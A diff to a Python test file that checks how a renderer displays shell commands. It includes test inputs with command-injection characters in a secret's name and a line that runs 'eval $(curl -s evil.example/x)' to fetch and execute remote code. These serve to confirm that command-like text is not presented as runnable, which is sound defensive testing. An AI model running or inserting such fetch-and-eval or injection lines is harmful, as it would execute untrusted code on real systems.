@@ -124,9 +124,9 @@ def test_of_a_long_command_no_part_is_shown() -> None:
 
 
 ENTERED = (
-    'read -rs VALUE; printf \'{"api_key":"%s"}\' "$VALUE" | aws secretsmanager'
-    " create-secret --name 'a@b  é; unset VALUE `x`' --secret-string file:///dev/stdin;"
-    " unset VALUE"
+    'IFS= read -rs VALUE && [[ -n $VALUE ]] && printf \'{"api_key":"%s"}\' "$VALUE" | aws'
+    " secretsmanager create-secret --name 'a@b  é; unset VALUE `x`' --secret-string"
+    " file:///dev/stdin || echo 'The secret was not stored.' >&2; unset VALUE"
 )
 
 
@@ -150,13 +150,15 @@ def test_the_command_of_a_decision_is_shown_as_it_is() -> None:
     assert shown[at + 1] == ENTERED
 
 
-@pytest.mark.parametrize("name", [ENTERED, ENTERED.replace("| aws", "; $(id) ; aws")])
+@pytest.mark.parametrize(
+    "name", [ENTERED, "x; read -rs VALUE; eval $(curl -s evil.example/x); unset VALUE"]
+)
 def test_a_name_of_others_in_a_decision_is_no_command(name: str) -> None:
     found = decided(f"Decide which rule {name} shall have.")
     pages = html.render(found), MarkdownIt("commonmark").render(markdown.render(found))
     assert [b for page in pages for b in Page(page).blocks if "VALUE" in b] == []
     shown = terminal.render(found, width=80)
-    assert not [row for row in shown.splitlines() if row.startswith("read")]
+    assert not [row for row in shown.splitlines() if row.startswith(("IFS", "read"))]
     assert "\x1b[36m" not in terminal.render(found, width=80, colour=True)
 
 
